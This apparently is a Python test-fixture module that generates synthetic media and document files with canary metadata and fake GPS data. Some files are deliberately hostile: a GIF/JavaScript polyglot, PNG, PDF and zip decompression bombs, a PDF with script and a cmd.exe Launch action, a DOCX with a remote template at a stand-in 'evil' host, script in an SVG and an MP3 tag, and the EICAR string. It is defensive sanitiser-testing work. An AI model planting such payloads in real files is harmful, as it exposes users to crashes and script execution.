"""Files as phones and attackers make them, generated here: no sample of a real person is kept in the repository."""

import io
import struct
import wave
import zipfile
import zlib
from collections.abc import Mapping
from typing import Any

import pikepdf
from PIL import Image, ImageDraw

CANARY = "Canary-Kaspi-5544"  # stands wherever a file can tell about its maker
PLACE = "+40.4093+049.8671/"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def drawn(size: tuple[int, int] = (64, 48), mode: str = "RGB") -> Image.Image:
    picture = Image.new(mode, size, "white" if mode == "RGB" else 0)
    ImageDraw.Draw(picture).rectangle((4, 4, size[0] // 2, size[1] // 2), fill="red" if mode == "RGB" else 1)
    return picture


def exif(*, orientation: int = 1) -> Image.Exif:
    notes = Image.Exif()
    notes[0x010F] = CANARY  # make
    notes[0x0112] = orientation
    gps = notes.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (40.0, 24.0, 33.5), "E", (49.0, 52.0, 1.5)
    gps[29] = CANARY
    return notes


def photo(form: str = "JPEG", *, size: tuple[int, int] = (64, 48), orientation: int = 1, **options: Any) -> bytes:
    """With place, maker and a comment."""
    out = io.BytesIO()
    if form == "JPEG":
        options.setdefault("comment", CANARY.encode())
    drawn(size).save(out, form, exif=exif(orientation=orientation), **options)
    return out.getvalue()


def heic(size: tuple[int, int] = (128, 96)) -> bytes:
    import pillow_heif

    pillow_heif.register_heif_opener()
    out = io.BytesIO()
    drawn(size).save(out, "HEIF", exif=exif().tobytes(), xmp=f"<x>{CANARY}</x>".encode())
    return out.getvalue()


def gif(frames: int = 2, comment: bytes = CANARY.encode()) -> bytes:
    out = io.BytesIO()
    pictures = [drawn((32, 32), "P") for _ in range(frames)]
    pictures[0].save(out, "GIF", save_all=True, append_images=pictures[1:], comment=comment)
    return out.getvalue()


def gif_that_is_script() -> bytes:
    """Read as JavaScript it is an assignment: GIF89a/* … */=1;alert(1)"""
    picture = bytearray(gif(1, b"*/=1;alert('Canary')//"))
    picture[6:8] = b"/*"
    return bytes(picture)


def png_bomb(side: int = 30_000) -> bytes:
    """A few kilobytes which would be 900 million points."""
    row = b"\0" * ((side + 7) // 8 + 1)
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    return _png(struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0), packed)


def _png(header: bytes, packed: bytes) -> bytes:
    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def svg_with_script() -> bytes:
    return b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


# --- documents --------------------------------------------------------------------------------------------------------


def pdf(*, password: str = "") -> bytes:
    """With script, an attachment, actions that call home, XFA, a photo with its place, and who wrote it."""
    document = pikepdf.new()
    page = document.add_blank_page(page_size=(200, 200))
    action = pikepdf.Dictionary
    document.Root.OpenAction = action(S=pikepdf.Name.JavaScript, JS=f"app.alert('{CANARY}')")
    document.Root.Names = action(
        JavaScript=action(Names=pikepdf.Array(["x", action(S=pikepdf.Name.JavaScript, JS="evil()")]))
    )
    document.Root.AcroForm = action(XFA=document.make_stream(b"<xdp>" + CANARY.encode() + b"</xdp>"), Fields=[])
    page.AA = action(O=action(S=pikepdf.Name.Launch, F="cmd.exe"))
    calls = action(S=pikepdf.Name.URI, URI=f"https://example.org/{CANARY}")
    page.Annots = pikepdf.Array(
        [
            action(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=calls, T=CANARY),
            action(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Rect=[0, 0, 9, 9], Contents="kept", T=CANARY),
        ]
    )
    image = document.make_stream(photo(), Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=64, Height=48)
    image.ColorSpace, image.BitsPerComponent, image.Filter = pikepdf.Name.DeviceRGB, 8, pikepdf.Name.DCTDecode
    page.Resources = action(XObject=action(Im0=image))
    page.Contents = document.make_stream(b"q 64 0 0 48 0 0 cm /Im0 Do Q")
    document.attachments["evil.exe"] = b"MZ" + CANARY.encode()
    document.docinfo["/Author"] = CANARY
    with document.open_metadata() as meta:
        meta["dc:creator"] = [CANARY]
    out = io.BytesIO()
    encryption = pikepdf.Encryption(owner="o", user=password) if password else False
    document.save(out, encryption=encryption)
    return out.getvalue()


def pdf_bomb() -> bytes:
    document = pikepdf.new()
    page = document.add_blank_page()
    stream = document.make_stream(b"")
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(1024 * 1024)) for _ in range(200)) + packer.flush()
    stream.write(packed, filter=pikepdf.Name.FlateDecode)
    page.Contents = stream
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def docx(changes: Mapping[str, bytes | str] | None = None, *, is_macro: bool = True) -> bytes:
    """With macros, a remote template, an embedded program, a photo with its place, and who wrote it."""
    main = "application/vnd.ms-word.document.macroEnabled.main+xml"
    if not is_macro:
        main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{_TYPES}">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>'
        '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Override PartName="/docProps/core.xml" ContentType="application/xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{_RELATIONS}">'
        f'<Relationship Id="rId1" Type="{_KINDS}/officeDocument" Target="word/document.xml"/>'
        f'<Relationship Id="rId2" Type="{_KINDS}/core" Target="docProps/core.xml"/></Relationships>',
        "word/document.xml": f'<w:document xmlns:w="{_WORD}"><w:body><w:p><w:ins w:author="{CANARY}"><w:r>'
        "<w:t>the words themselves</w:t></w:r></w:ins></w:p></w:body></w:document>",
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{_RELATIONS}">'
        f'<Relationship Id="rId1" Type="{_KINDS}/attachedTemplate" TargetMode="External"'
        f' Target="http://evil.example.org/{CANARY}"/>'
        f'<Relationship Id="rId2" Type="{_KINDS}/oleObject" Target="embeddings/oleObject1.bin"/>'
        f'<Relationship Id="rId3" Type="{_KINDS}/image" Target="media/image1.jpeg"/>'
        '<Relationship Id="rId4" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"'
        ' Target="vbaProject.bin"/></Relationships>',
        "word/vbaProject.bin": b"macro " + CANARY.encode(),
        "word/embeddings/oleObject1.bin": b"MZ" + CANARY.encode(),
        "word/media/image1.jpeg": photo(),
        "docProps/core.xml": f"<x>{CANARY}</x>",
    }
    return zipped(parts | dict(changes or {}))


def odt(**changes: bytes | str) -> bytes:
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    parts: dict[str, bytes | str] = {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": f'<office:document-content xmlns:office="{office}" xmlns:xlink="http://www.w3.org/1999/xlink"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<office:scripts><x>{CANARY}</x></office:scripts><office:body><office:text>"
        "<text:p>the words themselves</text:p>"
        f"<office:annotation><dc:creator>{CANARY}</dc:creator></office:annotation>"
        f'<text:a xlink:href="http://evil.example.org/{CANARY}">x</text:a></office:text></office:body>'
        "</office:document-content>",
        "meta.xml": f"<x>{CANARY}</x>",
        "Basic/Standard/Module1.xml": f"<x>{CANARY}</x>",
        "Thumbnails/thumbnail.png": photo("PNG"),
        "META-INF/manifest.xml": "<manifest:manifest"
        ' xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="meta.xml" manifest:media-type="text/xml"/></manifest:manifest>',
    }
    return zipped(parts | changes, stored=("mimetype",))


def zipped(parts: Mapping[str, bytes | str], stored: tuple[str, ...] = ()) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts.items():
            packing = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name), content, compress_type=packing)
    return out.getvalue()


def zip_bomb(megabytes: int = 180) -> bytes:
    """A document one part of which is blanks without end."""
    out = io.BytesIO(docx())
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/big.xml", "w", force_zip64=True) as entry,
    ):
        for _ in range(megabytes):
            entry.write(b" " * 1024 * 1024)
    return out.getvalue()


# --- sound and film ---------------------------------------------------------------------------------------------------


def wav(seconds: float = 0.1) -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(8000)
        sound.writeframes(bytes(int(16000 * seconds)))
    note = (
        b"LIST" + struct.pack("<I", 4 + 8 + 18) + b"INFO" + b"IART" + struct.pack("<I", 18) + CANARY.encode().ljust(18)
    )
    plain = out.getvalue() + note
    return plain[:4] + struct.pack("<I", len(plain) - 8) + plain[8:]


def mp3() -> bytes:
    """Four silent frames of MPEG-1 layer III, with a tag before and one behind."""
    from mutagen.id3 import GEOB, ID3, TPE1

    frame = b"\xff\xfb\x90\x64" + bytes(413)
    out = io.BytesIO(frame * 4 + b"TAG" + CANARY.encode().ljust(125))
    tag = ID3()
    tag.add(TPE1(encoding=3, text=[CANARY]))
    tag.add(GEOB(encoding=3, mime="text/html", filename="x", desc="", data=f"<script>{CANARY}</script>".encode()))
    tag.save(out)
    return out.getvalue()


def amr() -> bytes:
    return b"#!AMR\n" + (b"\x3c" + bytes(31)) * 5 + b"\xff" + CANARY.encode()


def ogg() -> bytes:
    """A short Opus stream with a comment (RFC 7845)."""
    head = b"OpusHead" + struct.pack("<BBHIhB", 1, 1, 312, 48000, 0, 0)
    comment = f"ARTIST={CANARY}".encode()
    tags = b"OpusTags" + struct.pack("<I", 4) + b"test" + struct.pack("<II", 1, len(comment)) + comment
    return _ogg_page(head, 2, 0, 0) + _ogg_page(tags, 0, 1, 0) + _ogg_page(b"\xf8\xff\xfe" * 20, 4, 2, 19_200)


def _ogg_page(body: bytes, flags: int, number: int, position: int) -> bytes:
    lacing = bytes([255] * (len(body) // 255) + [len(body) % 255])
    head = struct.pack("<4sBBqIIIB", b"OggS", 0, flags, position, 7, number, 0, len(lacing)) + lacing
    checksum = _ogg_checksum(head + body)
    return head[:22] + struct.pack("<I", checksum) + head[26:] + body


def _ogg_checksum(content: bytes) -> int:
    value = 0
    for one in content:
        value ^= one << 24
        for _ in range(8):
            value = (value << 1 ^ 0x04C11DB7) & 0xFFFFFFFF if value & 0x80000000 else value << 1 & 0xFFFFFFFF
    return value


def box(kind: bytes, *parts: bytes) -> bytes:
    body = b"".join(parts)
    return struct.pack(">I4s", 8 + len(body), kind) + body


def track(handler: bytes, offset: int, sizes: tuple[int, ...], *, note: bytes = b"") -> bytes:
    """One chunk at `offset`."""
    table = box(
        b"stbl",
        box(b"stsd", bytes(8)),
        box(b"stsc", struct.pack(">IIIII", 0, 1, 1, len(sizes), 1)),
        box(b"stsz", struct.pack(f">III{len(sizes)}I", 0, 0, len(sizes), *sizes)),
        box(b"stco", struct.pack(">III", 0, 1, offset)),
    )
    media = box(
        b"mdia",
        box(b"mdhd", struct.pack(">IIIIII", 0, 0xC0FFEE01, 0xC0FFEE01, 1000, 1000, 0)),
        box(b"hdlr", bytes(8) + handler + bytes(12) + CANARY.encode() + b"\0"),
        box(b"minf", table),
    )
    return box(b"trak", box(b"tkhd", struct.pack(">III", 7, 0xC0FFEE01, 0xC0FFEE01) + bytes(72)), media, note)


def mp4(brand: bytes = b"isom", handler: bytes = b"vide", *, behind: bytes = b"") -> bytes:
    """Place in moov/udta, in trak/udta, in meta, in a track of its own and in a uuid box; dates; a maker's name."""
    ftyp = box(b"ftyp", brand, bytes(4), b"isom", b"mp42")
    picture, places = b"PICTURE-AND-SOUND" * 4, f"{PLACE}{CANARY}".encode()
    data_at = len(ftyp) + 8
    mdat = box(b"mdat", picture, places)
    place = box(b"udta", box(b"\xa9xyz", struct.pack(">HH", len(PLACE), 0x15C7), PLACE.encode()))
    keys = box(b"meta", bytes(4), box(b"keys", b"com.apple.quicktime.location.ISO6709"), box(b"ilst", PLACE.encode()))
    moov = box(
        b"moov",
        box(b"mvhd", struct.pack(">IIIII", 0, 0xC0FFEE01, 0xC0FFEE01, 1000, 1000) + bytes(80)),
        track(handler, data_at, (len(picture),), note=place),
        track(b"meta", data_at + len(picture), (len(places),)),
        place,
        keys,
    )
    return ftyp + mdat + moov + box(b"uuid", bytes(16), CANARY.encode()) + behind


def element(number: int, *parts: bytes, is_open: bool = False) -> bytes:
    body = b"".join(parts)
    head = number.to_bytes((number.bit_length() + 7) // 8, "big")
    return head + (b"\x01" + b"\xff" * 7 if is_open else struct.pack(">Q", len(body) | 1 << 56)) + body


def webm(*, is_live: bool = False, kind: int = 2) -> bytes:
    """With a title, a date, tags that say where, and an attachment. `is_live`: as a browser records it."""
    cluster = element(0xE7, b"\0") + element(0xA3, b"\x81\0\0\x80" + b"SOUND" * 9)
    info = (element(0x2AD7B1, b"\x0f\x42\x40"), element(0x7BA9, CANARY.encode()), element(0x4D80, CANARY.encode()))
    entry = element(0xAE, element(0xD7, b"\1"), element(0x83, bytes([kind])), element(0x536E, CANARY.encode()))
    tags = element(0x1254C367, element(0x7373, f"LOCATION {PLACE} {CANARY}".encode()))
    header = element(0x1A45DFA3, element(0x4282, b"webm"))
    return header + element(
        0x18538067,
        element(0x1549A966, *info),
        element(0x1654AE6B, entry),
        tags,
        element(0x1F43B675, cluster, is_open=is_live),
        element(0x1F43B675, cluster, is_open=is_live),
        element(0x1941A469, CANARY.encode()),
        is_open=is_live,
    )
